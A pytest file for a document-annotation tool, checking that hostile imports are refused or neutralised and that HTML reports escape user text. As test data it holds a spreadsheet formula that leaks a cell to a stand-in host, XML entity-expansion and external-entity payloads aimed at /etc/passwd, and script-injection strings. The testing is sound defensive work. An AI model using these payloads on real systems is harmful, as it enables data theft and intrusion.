"""Hostile input against the analysis features of issue 12: variable sheets, codebook JSON with
memos, REFI-QDA Notes/Sets/source-level Codings, memo text, and the coded-document and
findings reports.

Every input is built here in tmp_path. A refused input ends in exactly one line (a
DeskAnnotatorError, no traceback) and leaves every table of the project as it was; a report
must carry user text escaped, never as markup.
"""

from __future__ import annotations

import codecs
import json
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from desk_annotator.cli import cli
from desk_annotator.errors import DeskAnnotatorError
from desk_annotator.io.coded_document_html import write_coded_document_html
from desk_annotator.memos import list_memos
from desk_annotator.ops_memos import SetMemo
from desk_annotator.ops_variables import DefineVariable
from desk_annotator.project import Project
from desk_annotator.project_io import import_codebook_file, import_paths
from desk_annotator.variables import variable_values
from desk_annotator.variables_io import REPORTED_ROWS, import_variables


def row_counts(project: Project) -> dict[str, int]:
    """Rows per table of the whole file (history included): a refused input adds none."""
    db = project.store.db
    names = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    return {n: db.execute(f"SELECT count(*) FROM [{n}]").fetchone()[0] for n in names}


def refused_in_one_line(project: Project, dump, call) -> str:  # type: ignore[no-untyped-def]
    before, counts = dump(project), row_counts(project)
    with pytest.raises(DeskAnnotatorError) as caught:
        call()
    message = str(caught.value)
    assert "\n" not in message and "Traceback" not in message
    assert dump(project) == before and row_counts(project) == counts
    return message


@pytest.fixture
def with_region(seeded):  # type: ignore[no-untyped-def]
    """The seeded project with a custom text variable 'region'; (project, a document title)."""
    project, _ = seeded
    project.run(DefineVariable(name="region", type="text"))
    return project, project.q.document_infos()[0].title


# ------------------------------------------------------------------ variable sheets

def test_binary_csv_is_one_line(with_region, dump, tmp_path) -> None:
    project, _ = with_region
    path = tmp_path / "vars.csv"
    path.write_bytes(b"title,region\n\x00\x01\x02\xff\xfe" * 300)
    message = refused_in_one_line(project, dump, lambda: import_variables(project, str(path)))
    assert "NUL" in message


def test_cp1252_csv_is_refused_with_its_line(with_region, dump, tmp_path) -> None:
    project, title = with_region
    path = tmp_path / "vars.csv"
    path.write_bytes(f"title,region\n{title},Zürich – Nord\n".encode("cp1252", "replace"))
    message = refused_in_one_line(project, dump, lambda: import_variables(project, str(path)))
    assert message.endswith('line 2 is not UTF-8 text (byte 0xfc); save the sheet as '
                            '"CSV UTF-8" or as XLSX')


def test_utf16_csv_with_bom_is_read(with_region, tmp_path) -> None:
    project, title = with_region
    path = tmp_path / "vars.csv"
    path.write_bytes(codecs.BOM_UTF16_LE + f"title\tregion\n{title}\tZürich\n"
                     .encode("utf-16-le"))
    report = import_variables(project, str(path))
    assert (report.matched, report.changed) == (1, 1)
    doc_id = project.q.document_infos()[0].id
    assert variable_values(project, "region")[doc_id] == "Zürich"


def test_truncated_xlsx_is_one_line(with_region, dump, tmp_path) -> None:
    from openpyxl import Workbook

    project, title = with_region
    whole = tmp_path / "whole.xlsx"
    book = Workbook()
    book.active.append(["title", "region"])
    book.active.append([title, "north"])
    book.save(whole)
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    message = refused_in_one_line(project, dump, lambda: import_variables(project, str(cut)))
    assert "not a readable XLSX file" in message


def test_formula_cells_count_by_their_saved_result_never_their_text(with_region,
                                                                    tmp_path) -> None:
    """openpyxl writes a formula without a computed result: the cell imports as empty with a
    warning naming it (not silently, not as the formula's text)."""
    from openpyxl import Workbook

    project, title = with_region
    path = tmp_path / "vars.xlsx"
    book = Workbook()
    book.active.append(["title", "region"])
    book.active.append([title, '=HYPERLINK("http://evil.example/?leak="&A1,"click")'])
    book.save(path)
    report = import_variables(project, str(path))
    assert report.matched == 1 and report.changed == 0
    assert report.warnings == [("warning: row 2, column 'region': a formula with no saved "
                                "result; left empty (open and save the file in a spreadsheet "
                                "first)")]
    doc_id = project.q.document_infos()[0].id
    assert variable_values(project, "region")[doc_id] is None


def test_a_value_like_a_formula_is_exported_as_text(with_region, tmp_path) -> None:
    from openpyxl import load_workbook

    project, title = with_region
    formula = '=HYPERLINK("http://evil.example","click")'
    sheet = tmp_path / "vars.csv"
    sheet.write_text(f'title,region\n"{title}","{formula.replace(chr(34), chr(34) * 2)}"\n',
                     encoding="utf-8")
    assert import_variables(project, str(sheet)).changed == 1
    out = tmp_path / "out.xlsx"
    result = CliRunner().invoke(cli, ["--project", str(project.path), "variable", "export",
                                      str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row
             if c.value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_a_huge_csv_of_another_corpus_reports_a_bounded_list(with_region, dump,
                                                             tmp_path) -> None:
    project, _ = with_region
    path = tmp_path / "big.csv"
    rows = 60_000  # ~2.4 MB, the same path a 50 MB sheet takes
    path.write_text("title,region\n" + "".join(f"no such title {i},x\n" for i in range(rows)),
                    encoding="utf-8")
    before, counts = dump(project), row_counts(project)
    started = time.perf_counter()
    report = import_variables(project, str(path))
    elapsed = time.perf_counter() - started
    lines = report.lines()
    assert report.matched == 0 and len(report.unmatched) == rows
    assert len(lines) == 1 + REPORTED_ROWS + 1
    assert lines[-1] == f"unmatched: ... and {rows - REPORTED_ROWS} more row(s)"
    assert dump(project) == before and row_counts(project) == counts
    assert elapsed < 10, elapsed


def test_cli_variable_import_of_binary_is_one_line(with_region, dump, tmp_path) -> None:
    project, _ = with_region
    path = tmp_path / "vars.csv"
    path.write_bytes(bytes(range(256)) * 20)
    before = dump(project)
    result = CliRunner().invoke(cli, ["--project", str(project.path), "variable", "import",
                                      str(path)])
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert dump(project) == before


# ------------------------------------------------------------------ memos

def test_memo_control_characters_never_reach_the_store(seeded) -> None:
    project, _ = seeded
    memo = project.run(SetMemo(scope="project", target_id="", coder_id=None,
                               text="line one\n\x1b[31mred\x1b[0m\x07 bell\ttab\x08",
                               title="a\x1btitle"))
    stored = list_memos(project)[0]
    assert stored.id == memo.id
    assert stored.text == "line one\n\ufffd[31mred\ufffd[0m\ufffd bell\ttab\ufffd"
    assert stored.title == "a\ufffdtitle"


def test_memo_with_controls_exports_to_well_formed_refi(seeded, tmp_path) -> None:
    from defusedxml.ElementTree import fromstring

    project, _ = seeded
    project.run(SetMemo(scope="project", target_id="", coder_id=None, text="x\x1by\x0c"))
    out = tmp_path / "out.qdpx"
    CliRunner().invoke(cli, ["--project", str(project.path), "export", str(out)],
                       catch_exceptions=False)
    with zipfile.ZipFile(out) as archive:
        fromstring(archive.read("project.qde"))  # raises on a control character


def test_memo_file_that_is_binary_is_one_line(seeded, dump, tmp_path) -> None:
    project, _ = seeded
    path = tmp_path / "memo.txt"
    path.write_bytes(b"\xff\xfe\x00b\x00a\x00d\x92")
    before = dump(project)
    result = CliRunner().invoke(cli, ["--project", str(project.path), "memo", "set",
                                      "--project-memo", "--coder", "coder-1", "--file",
                                      str(path)])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert dump(project) == before


# ------------------------------------------------------------------ codebook JSON with memos

def codebook(memos: object) -> str:
    return json.dumps({"name": "hostile", "stance": {"labels": [
        {"name": "supportive", "memos": memos}]}})


@pytest.mark.parametrize("memos, needle", [
    ("just a string", "memos"),
    ([{"text": 5}], "text"),
    ([{"text": "ok", "coder": ["a", "b"]}], "coder"),
    ([{"text": "x" * 2_000_000}], "memo"),
])
def test_codebook_memos_of_the_wrong_shape_are_one_line(seeded, dump, tmp_path, memos,
                                                        needle) -> None:
    project, _ = seeded
    path = tmp_path / "codebook.json"
    path.write_text(codebook(memos), encoding="utf-8")
    message = refused_in_one_line(project, dump, lambda: import_codebook_file(project, path))
    assert needle in message
    assert len(message) < 600


def test_deeply_nested_codebook_memos_are_one_line(seeded, dump, tmp_path) -> None:
    project, _ = seeded
    path = tmp_path / "codebook.json"
    text = codebook([]).replace('"memos": []', '"memos": ' + "[" * 50_000 + "]" * 50_000)
    path.write_text(text, encoding="utf-8")
    refused_in_one_line(project, dump, lambda: import_codebook_file(project, path))


# ------------------------------------------------------------------ REFI-QDA Notes, Sets, Codings

USER = "11111111-1111-4111-8111-111111111111"
CODE = "22222222-2222-4222-8222-222222222222"
SOURCE = "33333333-3333-4333-8333-333333333333"


def qdpx(path: Path, *, prolog: str = "", inside: str = "", source_extra: str = "",
         title: str = "doc") -> Path:
    qde = f"""<?xml version="1.0" encoding="utf-8"?>{prolog}
<Project xmlns="urn:QDA-XML:project:1.0" name="hostile">
<Users><User guid="{USER}" name="alice"/></Users>
<CodeBook><Codes><Code guid="{CODE}" name="supportive" isCodable="true">
  <NoteRef targetGUID="99999999-9999-4999-8999-999999999999"/></Code></Codes></CodeBook>
<Sources><TextSource guid="{SOURCE}" name="{title}" plainTextPath="internal://doc.txt">
  {source_extra}</TextSource></Sources>
{inside}
</Project>"""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", qde)
        archive.writestr("sources/doc.txt", "Plain text of a hostile project.")
    return path


def import_refused(project: Project, dump, path: Path) -> str:  # type: ignore[no-untyped-def]
    before, counts = dump(project), row_counts(project)
    report = import_paths(project, [path])
    assert len(report.refused) == 1, report
    line = report.refused[0]
    assert "\n" not in line and "Traceback" not in line
    assert dump(project) == before and row_counts(project) == counts
    return line


LAUGHS = """<!DOCTYPE Project [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>"""
EXTERNAL = '<!DOCTYPE Project [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("prolog, note_text", [(LAUGHS, "&d;"), (EXTERNAL, "&x;")])
def test_entities_in_notes_are_refused(seeded, dump, tmp_path, prolog, note_text) -> None:
    project, _ = seeded
    notes = (f'<Notes><Note guid="99999999-9999-4999-8999-999999999999" name="n">'
             f"<PlainTextContent>{note_text}</PlainTextContent></Note></Notes>")
    line = import_refused(project, dump, qdpx(tmp_path / "laughs.qdpx", prolog=prolog,
                                              inside=notes))
    assert "root" not in line  # no line of /etc/passwd


def test_dangling_note_refs_and_unknown_set_members_import_the_rest(seeded, tmp_path) -> None:
    """NoteRefs to Notes that are not there and a Set naming sources that are not there are
    warned about; the document itself still comes in, with no memo and a set of what exists."""
    project, _ = seeded
    docs_before = len(project.q.document_infos())
    inside = ('<NoteRef targetGUID="88888888-8888-4888-8888-888888888888"/>'
              '<Sets><Set guid="77777777-7777-4777-8777-777777777777" name="ghosts">'
              f'<MemberSource targetGUID="{SOURCE}"/>'
              '<MemberSource targetGUID="66666666-6666-4666-8666-666666666666"/>'
              '<MemberSource targetGUID="not a guid at all"/></Set></Sets>')
    source = '<NoteRef targetGUID="55555555-5555-4555-8555-555555555555"/>'
    report = import_paths(project, [qdpx(tmp_path / "dangling.qdpx", inside=inside,
                                         source_extra=source)])
    assert report.refused == []
    assert len(project.q.document_infos()) == docs_before + 1
    assert list_memos(project) == []


def test_source_level_coding_to_an_unknown_code_is_not_a_crash(seeded, tmp_path) -> None:
    project, _ = seeded
    codings = (f'<Coding guid="44444444-4444-4444-8444-444444444444" creatingUser="{USER}">'
               '<CodeRef targetGUID="00000000-0000-4000-8000-000000000000"/></Coding>'
               '<Coding guid="not-a-guid"><CodeRef/></Coding>')
    report = import_paths(project, [qdpx(tmp_path / "codings.qdpx", source_extra=codings)])
    assert report.refused == []


# ------------------------------------------------------------------ reports escape user text

HOSTILE_TITLE = '<script>alert("t")</script><img src=x onerror=alert(1)>'
HOSTILE_LABEL = "</style><script>alert('l')</script>"


@pytest.fixture
def hostile_names(project, article):  # type: ignore[no-untyped-def]
    coder = project.ensure_coder("<b>coder</b>")
    stance = project.add_label("stance", HOSTILE_LABEL, color="red;}</style><script>x()")
    theme = project.add_label("themes", "<i>theme</i> & co")
    project.add_documents([article(HOSTILE_TITLE, "One sentence here. Another there. " * 4)])
    doc = project.q.document_infos()[0].id
    project.add_annotation(doc, coder.id, 0, 18, stance_id=stance.id, theme_ids=[theme.id],
                           note="<script>note()</script>")
    project.set_status(doc, coder.id, "done")
    return project, doc


def assert_escaped(text: str) -> None:
    for raw in ("<script", "<img", "<b>coder", "<i>theme", "onerror=alert(1)>"):
        assert raw not in text, raw


def test_coded_document_html_escapes_titles_labels_and_notes(hostile_names, tmp_path) -> None:
    project, doc = hostile_names
    out = tmp_path / "doc.html"
    write_coded_document_html(project, doc, out)
    text = out.read_text(encoding="utf-8")
    assert_escaped(text)
    assert "&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;" in text or \
        "&lt;script&gt;alert(\"t\")&lt;/script&gt;" in text


def test_findings_report_escapes_titles_and_labels(hostile_names, tmp_path) -> None:
    from desk_annotator.analysis.findings import write_findings

    project, _ = hostile_names
    out = tmp_path / "findings.html"
    write_findings(project, out, bootstrap=20)
    text = out.read_text(encoding="utf-8")
    assert_escaped(text)
    assert "&lt;i&gt;theme&lt;/i&gt; &amp; co" in text


def test_a_control_character_reference_in_a_note_is_one_line(seeded, dump, tmp_path) -> None:
    project, _ = seeded
    notes = ('<Notes><Note guid="99999999-9999-4999-8999-999999999999" name="n">'
             "<PlainTextContent>bell&#7;here</PlainTextContent></Note></Notes>")
    line = import_refused(project, dump, qdpx(tmp_path / "bell.qdpx", inside=notes))
    assert "not well-formed XML" in line


def test_a_set_with_an_overlong_name_is_skipped_with_the_reason(seeded, tmp_path) -> None:
    from desk_annotator.document_sets import set_names

    project, _ = seeded
    inside = ('<Sets><Set guid="77777777-7777-4777-8777-777777777777" name="' + "S" * 5000
              + f'"><MemberSource targetGUID="{SOURCE}"/></Set></Sets>')
    report = import_paths(project, [qdpx(tmp_path / "longset.qdpx", inside=inside)])
    assert report.refused == [] and set_names(project) == []
    skipped = [w for w in report.warnings if "document set" in w]
    assert skipped == [(f"longset.qdpx: document set '{'S' * 40}…' skipped (a set's name is "
                        "at most 200 characters)")]


def test_retrieve_docx_with_control_characters_in_title_text_and_label(project, article,
                                                                       tmp_path) -> None:
    """A form feed (text taken from a PDF) or ESC in a title made python-docx refuse the whole
    file with a traceback; they are written as U+FFFD (the quote's whitespace as spaces)."""
    import docx

    from desk_annotator.models import Codebook, Label

    coder = project.ensure_coder("coder-1")
    # Typed names refuse control characters; a codebook file another program wrote can
    # still bring one in.
    project.import_codebook(Codebook(labels=[Label(scheme="stance", name="pro\x1bcon")]))
    stance = next(lb for lb in project.q.labels() if lb.name == "pro\x1bcon")
    text = "Page one ends.\x0cPage two\x1b starts here."
    project.add_documents([article("Title\x1bhere", text)])
    doc = project.q.document_infos()[0].id
    project.add_annotation(doc, coder.id, 5, 36, stance_id=stance.id)
    out = tmp_path / "segments.docx"
    result = CliRunner().invoke(cli, ["--project", str(project.path), "retrieve", "--output",
                                      str(out)])
    assert result.exit_code == 0, result.output
    texts = [p.text for p in docx.Document(str(out)).paragraphs]
    assert "\u201cone ends. Page two\ufffd starts here\u201d" in texts
    assert any(t.startswith("\u2014 Title\ufffdhere") for t in texts)
    assert "pro\ufffdcon (1)" in texts
